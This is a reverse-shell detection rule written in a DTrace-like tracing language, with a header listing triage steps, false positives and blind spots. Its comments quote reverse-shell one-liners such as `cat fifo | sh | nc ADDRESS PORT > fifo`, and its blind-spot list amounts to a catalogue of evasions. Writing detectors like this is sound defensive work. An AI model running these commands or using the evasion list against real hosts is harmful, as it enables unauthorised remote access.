/*---
id: EXE-001
version: 1.2.0
title: Program with a network connection as its standard input and output
status: stable
severity: high
confidence: high
risk: 85
attack: {version: 18, techniques: [T1059.004]}
needs: {events: [socket, proc], complete: true}
dedup: {key: [destination, port], for: 1h}
why: >
  A shell whose standard input and output are a connection that its own side made takes its commands from the other end: a reverse shell.
  A connection that was accepted, and that more than two programs have so, is a shell that somebody connected to: a daemon and the program
  of its service (git daemon, inetd with a wrapper) are two. The same is done by a program between: what it receives it writes to a pipe,
  terminal or unix socket that is another's standard input, and what that one answers it sends back. Or it starts a program for each
  command that comes, and sends what that writes, or has a shell run what came.
triage:
  - Which program is it, who started it, and whose address is at the other end?
  - What did it start since? Its children have the same parent in the findings and in `culprit packets`.
false_positives:
  - inetd, xinetd and systemd's Accept=yes start a service with the accepted connection; one that reads it and starts two further
    programs with all of it is told
  - programs that are made to run others on a connection of theirs, which is what this is about (runners of build jobs, agents that
    take commands from a server, telnetd)
blind_spots:
  - a shell two steps from the connection, as when expect passes between a terminal that nc has and another one that the shell has
  - a relay that keeps what it receives before it passes it on (over 20 ms, or another thread's work), or that is asked once and encrypts, that moves it by splice(2), io_uring or
    in several messages at once, or that has programs run for commands which come encrypted or in a protocol of its own, as HTTP is, and sends what they write in other pieces
  - commands that are fetched by one connection after the other (`curl` in a loop), a script that is (`curl | sh`), what a web server runs for
    who asks it (a web shell), a library that a program is made to load (LD_PRELOAD)
  - a relay of a connection that somebody made to it, when what it passes on is not as long as what it received (sshd's is not), or that is
    asked no more than once, or runs fewer than three programs
  - tunnels that a shell may come by later (ssh -R, -L and -D, a relay from one connection to another)
  - a shell that reads the connection by another descriptor and runs nothing but its built-in commands, or the same command all the time
  - a shell that somebody connected to, and that runs no more than one program
  - a connection from before the run
references:
  - https://attack.mitre.org/techniques/T1059/004/
---*/
#pragma D option quiet

int outgoing[uintptr_t];
int accepted[uintptr_t];
int uses[uintptr_t];
int own[uintptr_t];
/* Who has the connection as its standard input, and by process which one that is. */
pid_t reader[uintptr_t];
uintptr_t reads[pid_t];
/* By connection: how often one of its programs received something. */
int orders[uintptr_t];
/* ... and how many programs write to it since. */
int writers[uintptr_t];
int programs[uintptr_t];
pid_t holder[uintptr_t];
this int before;
this int is;
this uintptr_t input;

/* By channel (a pipe, a terminal, a unix socket): the first program that has it as its standard output, and what its standard input is then. */
pid_t program[uintptr_t];
string name[uintptr_t];
uintptr_t input[uintptr_t];
uintptr_t commanded[uintptr_t];
/* ... and how many programs have had it so since. */
int started[uintptr_t];
uintptr_t alive[pid_t];
/* When the program ended: what another writes to a pipe of the same address later is not its answer. */
uint64_t ended[uintptr_t];
int isShell[uintptr_t];
/* By channel: the connection that is passed on to it, whether it was made from here, and how often in turn with what came back. */
uintptr_t fed[uintptr_t];
int made[uintptr_t];
uintptr_t answered[uintptr_t];
int rounds[uintptr_t];
/* ... and whether all that was passed on was as long as what had come. Else it takes a second time to tell it from chance. */
int exact[uintptr_t];
/* By connection: the named pipe that it is passed on to. */
uintptr_t named[uintptr_t];
/* By process: the connection that it received from last, and when, and how much since it made a process last, which has that then. */
uintptr_t heard[pid_t];
uint64_t heardAt[pid_t];
int heardBytes[pid_t];
/* By connection: how often a shell was given a command as long as what had come, how often one of another length; how many programs in a row had,
   without a shell, an argument line of such a length, each of another one; of both the last length, and by how much it was less than what had
   come, which does not change. */
int commands[uintptr_t];
int others[uintptr_t];
int row[uintptr_t];
int length[uintptr_t];
int less[uintptr_t];
int rowLength[uintptr_t];
int rowLess[uintptr_t];
/* ... and the channel that its bytes are written to. */
uintptr_t passes[uintptr_t];
/* By channel: the shell that reads it, and when that made a process last; by process the channel. */
pid_t shell[uintptr_t];
uint64_t ran[uintptr_t];
uintptr_t taken[pid_t];
/* By unix socket that a connection is passed on to: who reads it. By process: the channel of the programs that it started. */
pid_t hop[uintptr_t];
uintptr_t served[pid_t];
this int length;
this int fits;
this int less;

/* Who made the connection: TCP_SYN_SENT is 2. */
socket:::state-change
/arg2 == 2/
{
	outgoing[args[0]->so_address] = 1;
	accepted[args[0]->so_address] = 0;
}

/* What was known of another connection of the same address: its end may be among what was lost. TCP_SYN_RECV is 3. */
socket:::state-change
/arg2 == 2 || arg2 == 3/
{
	commands[args[0]->so_address] = 0;
	others[args[0]->so_address] = 0;
	row[args[0]->so_address] = 0;
	length[args[0]->so_address] = 0;
	rowLength[args[0]->so_address] = 0;
	orders[args[0]->so_address] = 0;
	writers[args[0]->so_address] = 0;
	programs[args[0]->so_address] = 0;
	uses[args[0]->so_address] = 0;
	own[args[0]->so_address] = 0;
	holder[args[0]->so_address] = 0;
}

/* A datagram socket that has one at its other end is a connection, too. */
socket:::connect
/args[0]->so_type == 2 && (args[0]->so_family == 2 || args[0]->so_family == 10)/
{
	outgoing[args[0]->so_address] = 1;
}

socket:::create
/outgoing[args[0]->so_address]/
{
	outgoing[args[0]->so_address] = 0;
	uses[args[0]->so_address] = 0;
}

socket:::accept
/args[0]->so_family == 2 || args[0]->so_family == 10/
{
	accepted[args[0]->so_address] = 1;
	/* A datagram socket that was here before, which tells no end of its own. */
	outgoing[args[0]->so_address] = 0;
}

/*
 * Reading and writing by it, by any program of the shell: 1 and 2; who reads is there while others write. A program that has one of both (git's
 * helpers) is not counted.
 */
socket:::inherited
/(outgoing[args[0]->so_address] || accepted[args[0]->so_address]) && arg2 == 0/
{
	uses[args[0]->so_address] |= 1;
	reader[args[0]->so_address] = pid;
	reads[pid] = args[0]->so_address;
}

socket:::inherited
/(outgoing[args[0]->so_address] || accepted[args[0]->so_address]) && arg2 != 0 && reads[reader[args[0]->so_address]] == args[0]->so_address/
{
	uses[args[0]->so_address] |= 2;
	writers[args[0]->so_address] += orders[args[0]->so_address] > 0 && arg2 == 1;
}

/* Orders by one connection, and answers by another. */
socket:::inherited
/outgoing[args[0]->so_address] && arg2 == 1 && reads[pid] != 0 && reads[pid] != args[0]->so_address && outgoing[reads[pid]]/
{
	finding("%s has the connection to %s port %d, which was made from here, as its standard output, and another as its standard input",
	    execname, args[0]->so_raddr, args[0]->so_rport);
}

/* A program that takes orders, and runs another with them before it. */
socket:::inherited
/outgoing[args[0]->so_address] && arg2 == 0 && reads[ppid] == args[0]->so_address && orders[args[0]->so_address] > 0/
{
	finding("%s has the connection to %s port %d, which was made from here, as its standard input, as who started it has, and reads",
	    execname, args[0]->so_raddr, args[0]->so_rport);
}

socket:::inherited
/outgoing[args[0]->so_address] || accepted[args[0]->so_address]/
{
	this->before = holder[args[0]->so_address] == pid ? own[args[0]->so_address] : 0;
	own[args[0]->so_address] = this->before | (arg2 == 0 ? 1 : arg2 == 1 ? 2 : 4);
	programs[args[0]->so_address] += (own[args[0]->so_address] & 3) == 3 && (this->before & 3) != 3;
	holder[args[0]->so_address] = pid;
}

socket:::inherited
/outgoing[args[0]->so_address] && ((own[args[0]->so_address] & 3) == 3 || uses[args[0]->so_address] == 3 &&
    orders[args[0]->so_address] > 0 && (writers[args[0]->so_address] > 1 || (own[args[0]->so_address] & 6) == 6))/
{
	finding("%s has the connection to %s port %d, which was made from here, as its standard input and output", execname,
	    args[0]->so_raddr, args[0]->so_rport);
}

socket:::inherited
/accepted[args[0]->so_address] && (own[args[0]->so_address] & 3) == 3 && programs[args[0]->so_address] > 2 && orders[args[0]->so_address] > 0/
{
	finding("%s has the connection that %s made to port %d as its standard input and output, and two programs had it before",
	    execname, args[0]->so_raddr, args[0]->so_lport);
}

/* A shell that has the connection by another descriptor reads a command, and runs it with its output and errors there. */
socket:::inherited
/outgoing[args[0]->so_address] && arg2 == 2 && own[args[0]->so_address] == 6 && holder[args[0]->so_address] == pid
    && heard[ppid] == args[0]->so_address && timestamp - heardAt[ppid] < 1000000000/
{
	finding("%s has the connection to %s port %d, which was made from here, as its standard output, and was started when something had come",
	    execname, args[0]->so_raddr, args[0]->so_rport);
}

socket:::receive
/args[1] > 0 && reads[pid] == args[0]->so_address/
{
	orders[args[0]->so_address]++;
}

proc:::exit
/reads[pid]/
{
	reads[pid] = 0;
}

/* A shell that has a program (tee) send what others wrote, whose argument lines were as long as what had come. */
socket:::inherited
/outgoing[args[0]->so_address] && arg2 == 1 && own[args[0]->so_address] == 2 && holder[args[0]->so_address] == pid
    && heard[pid] == args[0]->so_address && row[args[0]->so_address] > 1/
{
	finding("%s has the connection to %s port %d, which was made from here, as its standard output, and was started after %d programs whose arguments had come",
	    execname, args[0]->so_raddr, args[0]->so_rport, row[args[0]->so_address]);
}

socket:::receive
/args[1] > 0 && (outgoing[args[0]->so_address] || accepted[args[0]->so_address])/
{
	heardBytes[pid] = (heard[pid] == args[0]->so_address ? heardBytes[pid] : 0) + args[1];
	heard[pid] = args[0]->so_address;
	heardAt[pid] = timestamp;
}

socket:::receive
/args[1] > 0 && args[0]->so_family == 1 && fed[args[0]->so_address] != 0/
{
	hop[args[0]->so_address] = pid;
}

/* Who reads a pipe whose writer had ended before reads another one, of the same address. */
proc:::exec-success
/args[1] != 0 && args[1] != args[2] && program[args[1]] != 0 && ended[args[1]] != 0/
{
	program[args[1]] = 0;
	input[args[1]] = 0;
	started[args[1]] = 0;
	commanded[args[1]] = 0;
	isShell[args[1]] = 0;
}

proc:::exec-success
/args[2] != 0 && program[args[2]] != 0 && program[args[2]] != pid && alive[program[args[2]]] == args[2]/
{
	started[args[2]]++;
}

proc:::exec-success
/args[2] != 0 && (program[args[2]] == 0 || program[args[2]] == pid || alive[program[args[2]]] != args[2])/
{
	isShell[args[2]] = program[args[2]] == pid && isShell[args[2]] ||
	    strstr(" sh bash dash ash zsh ksh mksh fish busybox ", strjoin(" ", strjoin(execname, " "))) != NULL;
	program[args[2]] = pid;
	ended[args[2]] = 0;
	name[args[2]] = execname;
	input[args[2]] = args[1];
	started[args[2]] = 1;
	served[ppid] = args[1] != 0 ? args[2] : served[ppid];
	commanded[args[2]] = heard[ppid] != 0 && timestamp - heardAt[ppid] < 1000000000 ? heard[ppid] : 0;
	alive[pid] = args[2];
}

/* A shell that reads a channel, and when it makes processes. */
proc:::exec-success
/args[1] != 0 && strstr(" sh bash dash ash zsh ksh mksh fish busybox ", strjoin(" ", strjoin(execname, " "))) != NULL/
{
	shell[args[1]] = pid;
	taken[pid] = args[1];
	ran[args[1]] = 0;
}

proc:::create
/taken[pid] && shell[taken[pid]] == pid/
{
	ran[taken[pid]] = timestamp;
}

proc:::exit
/taken[pid]/
{
	taken[pid] = 0;
}

proc:::exit
/served[pid]/
{
	served[pid] = 0;
}

proc:::exit
/alive[pid] && program[alive[pid]] == pid/
{
	ended[alive[pid]] = timestamp;
}

proc:::exit
/alive[pid]/
{
	alive[pid] = 0;
}

/* Text that came and is given to a shell as its argument (system(3), popen(3)) is as long as that, but for the end of its line. */
proc:::exec-success
/heardBytes[pid] > 0 && timestamp - heardAt[pid] < 1000000000 && strstr(curpsinfo->pr_psargs, "sh -c ") != NULL/
{
	this->length = strlen(strstr(curpsinfo->pr_psargs, "sh -c ")) - 6;
	this->less = heardBytes[pid] - this->length;
	this->fits = this->less >= 0 && this->less <= 2;
	commands[heard[pid]] = !this->fits || length[heard[pid]] == this->length ? commands[heard[pid]] :
	    commands[heard[pid]] == 0 || less[heard[pid]] == this->less ? commands[heard[pid]] + 1 : 1;
	others[heard[pid]] += !this->fits;
	length[heard[pid]] = this->length;
	less[heard[pid]] = this->less;
}

proc:::exec-success
/heardBytes[pid] > 0 && timestamp - heardAt[pid] < 1000000000 && strstr(curpsinfo->pr_psargs, "sh -c ") == NULL/
{
	this->length = strlen(curpsinfo->pr_psargs);
	this->less = heardBytes[pid] - this->length;
	this->fits = this->less >= 0 && this->less <= 2;
	row[heard[pid]] = !this->fits ? 0 : row[heard[pid]] != 0 && rowLess[heard[pid]] != this->less ? 1 :
	    row[heard[pid]] + (rowLength[heard[pid]] != this->length);
	rowLength[heard[pid]] = this->length;
	rowLess[heard[pid]] = this->less;
}

/* The subshell of `$(…)`. */
proc:::create
/heard[pid]/
{
	heard[arg1] = heard[pid];
	heardAt[arg1] = heardAt[pid];
	heardBytes[arg1] = heardBytes[pid];
	heardBytes[pid] = 0;
}

proc:::exit
/heard[pid]/
{
	heard[pid] = 0;
	heardAt[pid] = 0;
	heardBytes[pid] = 0;
}

/* What a connection brought was written to a channel. */
socket:::relayed
/args[2] != 1/
{
	rounds[args[3]] = answered[args[3]] == args[0]->so_address ? rounds[args[3]] + 1 :
	    fed[args[3]] == args[0]->so_address ? rounds[args[3]] : 0;
	exact[args[3]] = args[1] == args[4] && (fed[args[3]] != args[0]->so_address || exact[args[3]]);
	fed[args[3]] = args[0]->so_address;
	made[args[3]] = outgoing[args[0]->so_address];
	answered[args[3]] = 0;
	passes[args[0]->so_address] = args[3];
	named[args[0]->so_address] = args[2] == 2 ? args[3] : 0;
}

/* What a program wrote to a channel was sent by another, and it is there or was until just now. */
socket:::relayed
/args[2] == 1 && program[args[3]] != pid && (ended[args[3]] == 0 || timestamp - ended[args[3]] < 1000000000)/
{
	this->is = 1;
	this->input = input[args[3]];
}

/* A shell may have the first word. */
socket:::relayed
/this->is && this->input != 0/
{
	answered[this->input] = args[0]->so_address;
	exact[this->input] = args[1] == args[4] && (fed[this->input] != args[0]->so_address || exact[this->input]);
}

socket:::relayed
/args[2] == 1 && named[args[0]->so_address] != 0/
{
	answered[named[args[0]->so_address]] = args[0]->so_address;
	exact[named[args[0]->so_address]] = args[1] == args[4] && exact[named[args[0]->so_address]];
}

socket:::relayed
/this->is && outgoing[args[0]->so_address] && this->input != 0
    && fed[this->input] == args[0]->so_address && (exact[this->input] || rounds[this->input] > 0)/
{
	finding("%s passes what %s port %d sends, on a connection that was made from here, to %s (process %d), and sends what that answers",
	    execname, args[0]->so_raddr, args[0]->so_rport, name[args[3]], program[args[3]]);
}

socket:::relayed
/this->is && accepted[args[0]->so_address] && this->input != 0
    && answered[this->input] == args[0]->so_address && exact[this->input] && rounds[this->input] > 0 && started[args[3]] > 2/
{
	finding("%s passes what %s sends, on a connection that it made to port %d, to %s (process %d), and sends what that answers",
	    execname, args[0]->so_raddr, args[0]->so_lport, name[args[3]], program[args[3]]);
}

/* `cat fifo | sh | nc ADDRESS PORT > fifo`: who reads the named pipe is not the shell, but who writes what the shell reads. */
socket:::relayed
/this->is && outgoing[args[0]->so_address] && named[args[0]->so_address] != 0 && this->input != 0
    && this->input != named[args[0]->so_address] && program[this->input] != 0/
{
	finding("%s passes what %s port %d sends, on a connection that was made from here, to a named pipe, and sends what %s (process %d) answers to %s",
	    execname, args[0]->so_raddr, args[0]->so_rport, name[args[3]], program[args[3]], name[this->input]);
}

socket:::relayed
/this->is && accepted[args[0]->so_address] && named[args[0]->so_address] != 0 && this->input != 0
    && this->input != named[args[0]->so_address] && program[this->input] != 0 && rounds[named[args[0]->so_address]] > 0
    && exact[named[args[0]->so_address]] && started[args[3]] > 2/
{
	finding("%s passes what %s sends, on a connection that it made to port %d, to a named pipe, and sends what %s (process %d) answers to %s",
	    execname, args[0]->so_raddr, args[0]->so_lport, name[args[3]], program[args[3]], name[this->input]);
}

/* `nc A | sh | nc B`: the orders come by another connection than that by which the answers go. */
socket:::relayed
/this->is && outgoing[args[0]->so_address] && this->input != 0 && fed[this->input] != 0
    && fed[this->input] != args[0]->so_address && made[this->input] && started[args[3]] > 1/
{
	finding("%s sends to %s port %d, on a connection that was made from here, what %s (process %d) answers to what comes by another",
	    execname, args[0]->so_raddr, args[0]->so_rport, name[args[3]], program[args[3]]);
}

/* ... and a program is between that makes something else of the orders. */
socket:::relayed
/this->is && outgoing[args[0]->so_address] && this->input != 0 && fed[this->input] == 0 && isShell[args[3]] && started[args[3]] > 1
    && input[this->input] != 0 && fed[input[this->input]] != 0 && fed[input[this->input]] != args[0]->so_address && made[input[this->input]]/
{
	finding("%s sends to %s port %d, on a connection that was made from here, what %s (process %d) answers to what %s makes of what comes by another",
	    execname, args[0]->so_raddr, args[0]->so_rport, name[args[3]], program[args[3]], name[this->input]);
}

/*
 * A program was started when something had come, and all that is sent is what it wrote: a shell, or one that was given no input, which would be
 * what had come. Its end of a line may become another one. What fills buffers of pages is as long as any other (psql's \copy from program).
 */
socket:::relayed
/this->is && outgoing[args[0]->so_address] && commanded[args[3]] == args[0]->so_address
    && (args[1] == args[4] && (args[1] & 4095) != 0 && (isShell[args[3]] || this->input == 0) ||
    isShell[args[3]] && args[4] < 4096 && args[1] - args[4] <= 2 && args[1] - args[4] >= -2)/
{
	finding("%s started %s (process %d) when %s port %d had sent something, on a connection that was made from here, and sends what that writes",
	    execname, name[args[3]], program[args[3]], args[0]->so_raddr, args[0]->so_rport);
}

/* `sh -c` of what came, again and again: who does that is told when it asks for more. */
socket:::receive
/heard[pid] == args[0]->so_address && (row[args[0]->so_address] > 2 ||
    commands[args[0]->so_address] > 1 && commands[args[0]->so_address] > others[args[0]->so_address])/
{
	finding("%s runs what %s sends, on a connection that %s port %d: %d commands were as long as what had come", execname,
	    args[0]->so_raddr, outgoing[args[0]->so_address] ? "was made from here to its" : "it made to",
	    outgoing[args[0]->so_address] ? args[0]->so_rport : args[0]->so_lport,
	    row[args[0]->so_address] > 2 ? row[args[0]->so_address] : commands[args[0]->so_address]);
}

/* `(echo; cat fifo) | nc ADDRESS PORT | sh > fifo`: nobody tells who reads the named pipe, but the shell ran a program just before. */
socket:::relayed
/args[2] == 1 && outgoing[args[0]->so_address] && passes[args[0]->so_address] != 0 && passes[args[0]->so_address] != args[3]
    && program[args[3]] != 0 && program[args[3]] != shell[passes[args[0]->so_address]]
    && input[args[3]] != passes[args[0]->so_address] && exact[passes[args[0]->so_address]] && args[1] == args[4]
    && ran[passes[args[0]->so_address]] != 0 && timestamp - ran[passes[args[0]->so_address]] < 200000000/
{
	finding("%s passes what %s port %d sends, on a connection that was made from here, to a shell (process %d), and sends what comes when that has run something",
	    execname, args[0]->so_raddr, args[0]->so_rport, shell[passes[args[0]->so_address]]);
}

/* A unix socket between: who reads it has started a shell, which has just started something, and as many bytes go back. */
socket:::relayed
/args[2] == 1 && outgoing[args[0]->so_address] && fed[args[3]] == args[0]->so_address && exact[args[3]] && args[1] == args[4]
    && hop[args[3]] != 0 && served[hop[args[3]]] != 0 && isShell[served[hop[args[3]]]] && started[served[hop[args[3]]]] > 1
    && timestamp - ran[input[served[hop[args[3]]]]] < 1000000000/
{
	finding("%s passes what %s port %d sends, on a connection that was made from here, to process %d by a unix socket, which has a shell for it (%s), and sends what comes back",
	    execname, args[0]->so_raddr, args[0]->so_rport, hop[args[3]], name[served[hop[args[3]]]]);
}

/* TCP_CLOSE is 7. */
socket:::state-change
/arg2 == 7/
{
	commands[args[0]->so_address] = 0;
	row[args[0]->so_address] = 0;
	others[args[0]->so_address] = 0;
	length[args[0]->so_address] = 0;
	passes[args[0]->so_address] = 0;
	outgoing[args[0]->so_address] = 0;
	named[args[0]->so_address] = 0;
	accepted[args[0]->so_address] = 0;
	uses[args[0]->so_address] = 0;
	orders[args[0]->so_address] = 0;
	writers[args[0]->so_address] = 0;
	own[args[0]->so_address] = 0;
	programs[args[0]->so_address] = 0;
	holder[args[0]->so_address] = 0;
}
